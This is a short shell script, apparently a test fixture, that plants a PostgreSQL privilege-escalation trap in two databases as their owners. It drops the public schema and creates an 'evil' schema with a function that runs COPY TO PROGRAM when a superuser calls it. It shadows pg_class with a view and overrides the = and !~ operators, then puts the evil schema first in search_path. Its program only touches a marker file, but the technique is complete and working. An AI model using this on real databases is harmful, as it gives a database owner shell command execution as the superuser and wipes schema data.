#!/bin/sh
# As the owners of their databases may do it: empties that of environment three but for a view, and that of
# environment all but for operators, which have the superuser run a program when it uses one of their names.
set -eu
cd /
plant() { # LOGIN, which is the name of its database, too
    runuser --user postgres -- psql --no-psqlrc --quiet --set=ON_ERROR_STOP=1 --dbname="$1"
}
payload='
CREATE SCHEMA evil;
CREATE FUNCTION evil.payload() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
    COPY (SELECT 1) TO PROGRAM '\''touch /var/lib/postgresql/did-its-bidding'\'';
  END IF;
  RETURN true;
END $$;'
empty() {
    echo "DROP SCHEMA public CASCADE; CREATE SCHEMA public; SET SESSION AUTHORIZATION $1; $payload"
    cat
    echo "ALTER DATABASE $1 SET search_path = evil, public, pg_catalog;"
}
empty trac_three <<'END' | plant trac_three
CREATE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE evil.payload();
END
empty trac_all <<'END' | plant trac_all
CREATE FUNCTION evil.same(oid, oid) RETURNS boolean LANGUAGE sql AS 'SELECT evil.payload()';
CREATE FUNCTION evil.same(name, name) RETURNS boolean LANGUAGE sql AS 'SELECT evil.payload()';
CREATE FUNCTION evil.differs(name, text) RETURNS boolean LANGUAGE sql AS 'SELECT evil.payload()';
CREATE OPERATOR evil.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = evil.same);
CREATE OPERATOR evil.= (LEFTARG = name, RIGHTARG = name, FUNCTION = evil.same);
CREATE OPERATOR evil.!~ (LEFTARG = name, RIGHTARG = text, FUNCTION = evil.differs);
END
